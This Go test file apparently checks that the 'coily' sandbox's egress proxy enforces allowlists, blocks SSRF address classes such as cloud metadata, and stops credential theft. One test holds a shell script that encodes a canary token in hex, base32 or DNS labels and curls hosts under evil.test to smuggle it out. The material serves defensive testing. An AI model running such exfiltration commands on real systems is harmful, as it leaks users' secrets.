package main

import (
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"coily.dev/coily/audit"
	"coily.dev/coily/internal/canary"
	"coily.dev/coily/scrub"
)

// egressPolicy writes a policy whose curl rule reaches the network only
// through its egress proxy, allowed to upstream.test:port, a name the
// policy pins to loopback (which allow_cidrs must also allow).
func egressPolicy(t *testing.T, dir string, port int, mode string) string {
	t.Helper()
	p := filepath.Join(dir, "policy.yaml")
	body := fmt.Sprintf(`version: 1
roles:
  operator:
    permissions: [exec, lockout, unlock, pause, resume, status, approve]
    commands: [curl, curl-deny]
commands:
  - name: curl
    binary: /usr/bin/curl
    args: ["**"]
    flags: any
    network: proxied
    egress:
      mode: %s
      allow: ["upstream.test:%d"]
      allow_cidrs: [127.0.0.0/8]
      hosts: {upstream.test: [127.0.0.1]}
  - name: curl-deny
    binary: /usr/bin/curl
    args: ["--deny-marker", "**"]
    flags: any
`, mode, port)
	if err := os.WriteFile(p, []byte(body), 0o600); err != nil {
		t.Fatal(err)
	}
	return p
}

// egressRecords returns the exec.result records of the audit log.
func egressRecords(t *testing.T, dir string) []audit.Record {
	t.Helper()
	var out []audit.Record
	for _, line := range strings.Split(readAudit(t, dir), "\n") {
		if line == "" {
			continue
		}
		var r audit.Record
		if err := json.Unmarshal([]byte(line), &r); err != nil {
			t.Fatalf("audit line %q: %v", line, err)
		}
		if r.Event == "exec.result" {
			out = append(out, r)
		}
	}
	return out
}

// A proxied rule's command reaches an allowed host through its own
// proxy, a host outside the allowlist is refused with a sentence naming
// the rule, nothing bypasses the proxy, and the audit record carries
// the egress rows.
func TestCLIExecEgressProxied(t *testing.T) {
	requireBwrap(t)
	_, err := exec.LookPath("curl")
	requireComponent(t, err == nil, "curl")
	var hits atomic.Int64
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		fmt.Fprint(w, "hello from upstream")
	}))
	defer srv.Close()
	port := srv.Listener.Addr().(*net.TCPAddr).Port
	dir := shortDir(t)
	p := startServe(t, dir, egressPolicy(t, dir, port, "enforce"))

	url := "http://upstream.test:" + strconv.Itoa(port) + "/"
	r := p.run(t, "exec", "--", "/usr/bin/curl", "-sS", url)
	if r.code != 0 || r.stdout != "hello from upstream" {
		t.Fatalf("allowed host through the proxy: %+v\n%s", r, p.log)
	}
	r = p.run(t, "exec", "--", "/usr/bin/curl", "-sS", "-o", "/dev/stderr", "-w", "%{http_code}", "http://upstream.test:1/")
	denied := `host upstream.test:1 is not in the egress allowlist of rule "curl"; ask the owner to add it`
	if r.stdout != "403" || !strings.Contains(r.stderr, denied) || !strings.Contains(r.stderr, "\ncoily: egress refused: "+denied+"\n") {
		t.Fatalf("port outside the allowlist: the tool and coily's answer say why: %+v", r)
	}
	// curl told to skip the proxy gets no connection at all.
	before := hits.Load()
	r = p.run(t, "exec", "--", "/usr/bin/curl", "-sS", "--noproxy", "*", "http://127.0.0.1:"+strconv.Itoa(port)+"/")
	if r.code == 0 || hits.Load() != before {
		t.Fatalf("a command ignoring the proxy reached the host: %+v", r)
	}

	recs := egressRecords(t, dir)
	if len(recs) != 3 {
		t.Fatalf("want 3 exec.result records, got %d", len(recs))
	}
	first := recs[0].Egress
	if len(first) != 1 || first[0].Host != "upstream.test" || first[0].Port != port || first[0].Decision != "allow" ||
		first[0].Conns != 1 || first[0].BytesDown == 0 || first[0].BytesUp == 0 {
		t.Fatalf("rows of the allowed exec: %+v", first)
	}
	if d := recs[1].Egress; len(d) != 1 || d[0].Decision != "deny" || d[0].Reason != "not-allowlisted" || d[0].Port != 1 {
		t.Fatalf("rows of the denied exec: %+v", d)
	}
	if d := recs[2].Egress; len(d) != 0 {
		t.Fatalf("a bypassing command left rows: %+v", d)
	}
}

// Observe mode lets a host outside the allowlist through and records it.
func TestCLIExecEgressObserve(t *testing.T) {
	requireBwrap(t)
	_, err := exec.LookPath("curl")
	requireComponent(t, err == nil, "curl")
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "ok") }))
	defer srv.Close()
	port := srv.Listener.Addr().(*net.TCPAddr).Port
	dir := shortDir(t)
	p := startServe(t, dir, egressPolicy(t, dir, 1, "observe"))
	r := p.run(t, "exec", "--", "/usr/bin/curl", "-sS", "http://upstream.test:"+strconv.Itoa(port)+"/")
	if r.code != 0 || r.stdout != "ok" {
		t.Fatalf("observe: %+v\n%s", r, p.log)
	}
	recs := egressRecords(t, dir)
	if len(recs) != 1 || len(recs[0].Egress) != 1 || recs[0].Egress[0].Decision != "observe-deny" {
		t.Fatalf("observe rows: %+v", recs)
	}
}

// Every guarded address class is refused through the whole server, by
// IP literal and by a name that resolves to it, although the names are
// in the allowlist: only allow_cidrs opens a guarded range.
func TestCLIExecEgressSSRF(t *testing.T) {
	requireBwrap(t)
	_, err := exec.LookPath("curl")
	requireComponent(t, err == nil, "curl")
	classes := []struct{ addr, class string }{
		{"127.0.0.1", "loopback"}, {"::1", "loopback"},
		{"10.1.2.3", "private"}, {"172.16.0.1", "private"}, {"192.168.1.1", "private"}, {"fd00::1", "private"},
		{"169.254.1.1", "link-local"}, {"fe80::1", "link-local"},
		{"100.64.0.1", "CGNAT/tailnet"}, {"100.100.100.100", "CGNAT/tailnet"}, {"fd7a:115c:a1e0::1", "CGNAT/tailnet"},
		{"169.254.169.254", "cloud metadata"}, {"fd00:ec2::254", "cloud metadata"},
		{"224.0.0.1", "multicast"}, {"ff02::1", "multicast"},
		{"0.0.0.0", "unspecified"}, {"::", "unspecified"},
		{"::ffff:127.0.0.1", "loopback"}, {"64:ff9b::a00:1", "private"}, {"2002:a9fe:a9fe::", "cloud metadata"},
	}
	var allow, hosts []string
	for i, c := range classes {
		name := fmt.Sprintf("c%d.test", i)
		allow = append(allow, `"`+name+`"`)
		hosts = append(hosts, fmt.Sprintf(`%s: ["%s"]`, name, c.addr))
	}
	dir := shortDir(t)
	pol := filepath.Join(dir, "policy.yaml")
	if err := os.WriteFile(pol, []byte(`version: 1
roles: {operator: {permissions: [exec], commands: [curl]}}
commands:
  - name: curl
    binary: /usr/bin/curl
    args: ["**"]
    flags: any
    network: proxied
    egress:
      allow: [`+strings.Join(allow, ", ")+`]
      hosts: {`+strings.Join(hosts, ", ")+`}
`), 0o600); err != nil {
		t.Fatal(err)
	}
	p := startServe(t, dir, pol)
	for i, c := range classes {
		lit := c.addr
		if strings.Contains(lit, ":") {
			lit = "[" + lit + "]"
		}
		for _, target := range []string{fmt.Sprintf("c%d.test", i), lit} {
			r := p.run(t, "exec", "--", "/usr/bin/curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "http://"+target+"/")
			if target == "127.0.0.1" {
				// NO_PROXY sends it to the sandbox's own loopback: nothing.
				if r.code == 0 || r.stdout != "000" {
					t.Errorf("127.0.0.1 inside the sandbox: %+v", r)
				}
				continue
			}
			if r.stdout != "403" || !strings.Contains(r.stderr, "coily: egress refused: ") || !strings.Contains(r.stderr, c.class) {
				t.Errorf("%s (%s): %+v", target, c.class, r)
			}
		}
	}
}

// A command holding a credential cannot carry it out of the server in the
// names it asks its proxy for (a host, a TLS server name): not as is, with
// its case changed, split into DNS labels, in hex or base32. The exec's
// answer, the server's log and the audit log name such a host only
// redacted.
func TestCLIExecEgressNamesCarryNoCredential(t *testing.T) {
	requireBwrap(t)
	for _, tool := range []string{"curl", "base32", "od"} {
		_, err := exec.LookPath(tool)
		requireComponent(t, err == nil, tool)
	}
	dir := shortDir(t)
	token := "ghp_Canary" + strings.ToUpper(strconv.FormatInt(time.Now().UnixNano(), 36)) + "xyzQ"
	creds := filepath.Join(dir, "credentials")
	if err := os.WriteFile(creds, []byte("canary="+token+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	pol := filepath.Join(dir, "policy.yaml")
	if err := os.WriteFile(pol, []byte(`version: 1
roles: {operator: {permissions: [exec, lockout, unlock, status], commands: [sh]}}
commands:
  - name: sh
    binary: /bin/sh
    args: ["**"]
    flags: any
    network: proxied
    credentials: {TOKEN: "file:canary"}
    egress: {allow: ["allowed.test:443"]}
`), 0o600); err != nil {
		t.Fatal(err)
	}
	p := startServe(t, dir, pol, "--credentials-file", creds)
	// Each name goes out as a CONNECT and as the TLS server name of a
	// tunnel to the allowed host.
	script := `lower=$(printf %s "$TOKEN" | tr A-Z a-z)
hex=$(printf %s "$TOKEN" | od -An -tx1 | tr -d ' \n')
b32=$(printf %s "$TOKEN" | base32 | tr -d '=\n' | tr A-Z a-z)
cut1() { printf %s "$1" | cut -c1-30; }
cut2() { printf %s "$1" | cut -c31-; }
for h in "$TOKEN.evil.test" "$lower.evil.test" "$(cut1 "$hex").$(cut2 "$hex").evil.test" "$(cut1 "$b32").$(cut2 "$b32").evil.test" \
  "$(cut1 "$TOKEN")-$(cut2 "$TOKEN").evil.test"; do
  curl -sS -o /dev/null "https://$h/" 2>&1
  curl -sS -o /dev/null --connect-to "$h:443:allowed.test:443" "https://$h/" 2>&1
done
true`
	r := p.run(t, "exec", "--", "/bin/sh", "-c", script)
	c := canary.New(t)
	c.AddString("TOKEN", token)
	c.CheckText("the exec's answer", r.stdout, r.stderr)
	c.CheckText("the server's log", p.log.String())
	c.CheckText("the audit log", readAudit(t, dir))
	if !strings.Contains(r.stderr, "coily: egress refused: ") || !strings.Contains(r.stderr, "[REDACTED:TOKEN]") {
		t.Errorf("the refusals are not in the answer, redacted:\n%s", scrub.NewSet([]scrub.Secret{{Name: "TOKEN", Value: token}}).RedactText(r.stderr))
	}
}
